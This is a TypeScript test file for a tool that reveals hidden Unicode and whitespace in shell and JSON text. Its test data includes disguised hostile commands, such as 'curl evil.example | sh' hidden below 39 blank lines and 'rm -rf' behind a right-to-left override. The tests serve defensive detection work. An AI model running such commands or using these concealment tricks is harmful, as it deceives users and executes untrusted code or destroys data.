import { expect, test } from "vitest";

import { hiddenIn, inCodes, linesBelow, type Mark, marksInProse, marksOf, type Shown, withMarks } from "./exact.ts";
import { json, shell } from "./highlight.ts";

const name = ({ is, code, times }: Mark): string => (is === "hidden" ? `<${code} ${times}>` : `<${times} ${is}>`);
const told = (shown: readonly Shown[]): string => shown.map((one) => (one.kind === "mark" ? name(one.mark) : one.text)).join("");
/** As it is told without colours, and with those of a shell. */
const as = (text: string): readonly [string, string] => [told(withMarks([{ kind: "plain", text }], marksOf(text))), told(withMarks(shell(text), marksOf(text)))];

test.each([
  ["echo ok\n\n\nls", "echo ok\n\n\nls"],
  ["echo ok \u202E# moc.live\u202C; rm -rf ./x", "echo ok <U+202E 1># moc.live<U+202C 1>; rm -rf ./x"],
  ["cu\u200B\u200B\u200Brl", "cu<U+200B 3>rl"],
  [`echo ok\n${"\n".repeat(39)}curl evil.example | sh`, "echo ok\n<39 lines>curl evil.example | sh"],
  [`echo ok\n${" \t\r\n".repeat(4)}ls`, "echo ok\n<4 lines>ls"],
  [`echo${" ".repeat(500)}; ls`, "echo<500 spaces>; ls"],
  [`{\n${" ".repeat(30)}deep`, `{\n${" ".repeat(30)}deep`],
  [`\n${" ".repeat(90)}far`, "\n<90 spaces>far"],
  ["a\r\nb\rc\td", "a\r\nb<U+000D 1>c\td"],
  ["rm\u00A0-rf\u3164x\u{E0041}\uFE0F\uD800", "rm<U+00A0 1>-rf<U+3164 1>x<U+E0041 1><U+FE0F 1><U+D800 1>"],
  ["\u001B[8mrm\u0007", "<U+001B 1>[8mrm<U+0007 1>"],
  ["你好，世界 é ملف", "你好，世界 é ملف"],
  ["'a\u202Eb' \"$x\u200B\"", "'a<U+202E 1>b' \"$x<U+200B 1>\""],
])("%j", (text, expected) => {
  expect(as(text)).toEqual([expected, expected]);
});

test("a mark that reaches over parts stands once, and nothing behind it is lost", () => {
  const text = '{ "a": "x\u202E" }';
  expect(told(withMarks(json(text), marksOf(text)))).toBe('{ "a": "x<U+202E 1>" }');
  const marks: readonly Mark[] = [{ from: 1, to: 4, is: "spaces", code: "", times: 3 }];
  expect(withMarks([{ kind: "plain", text: "ab" }, { kind: "text", text: "c" }, { kind: "sign", text: "de" }], marks)).toEqual([
    { kind: "plain", text: "a" },
    { kind: "mark", mark: marks[0] },
    { kind: "sign", text: "e" },
  ]);
});

test("hidden characters are counted", () => {
  expect(hiddenIn(marksOf("a\u200B\u200B\u202E"))).toEqual({ count: 3, code: "U+200B" });
  expect(hiddenIn(marksOf("a"))).toEqual({ count: 0, code: "" });
});

test("the lines below what is seen", () => {
  expect(linesBelow({ scrollHeight: 824, scrollTop: 0, clientHeight: 398 }, 20)).toBe(21);
  expect(linesBelow({ scrollHeight: 824, scrollTop: 425.5, clientHeight: 398 }, 20)).toBe(0);
  expect(linesBelow({ scrollHeight: 403, scrollTop: 0, clientHeight: 398 }, 20)).toBe(1);
});

test.each([
  ["a\u202Eb", ["U+202E"]],
  ["a\u200Bb\u200Dc", ["U+200B", "U+200D"]],
  ["« oui »\u00A0! \u3000字", []],
  ["❤\uFE0F and 👩\u200D👩\uFE0F\u200D👧", []],
  ["👍🏽\u200D❤", []],
  ["a\uFE0F ❤\uFE0F\uFE0F", ["U+FE0F", "U+FE0F"]],
  [`a${" ".repeat(40)}b\n\n\n\n\n\nc`, []],
] as const)("what is written to be read: %j", (text, codes) => {
  expect(marksInProse(text).map(({ code }) => code)).toEqual(codes);
});

test("what is hidden in a name stands there as a code where only a text can", () => {
  expect(inCodes("build\u202Erevres\u200B\u200B")).toBe("build[U+202E]revres[U+200B ×2]");
  expect(inCodes("build server")).toBe("build server");
});
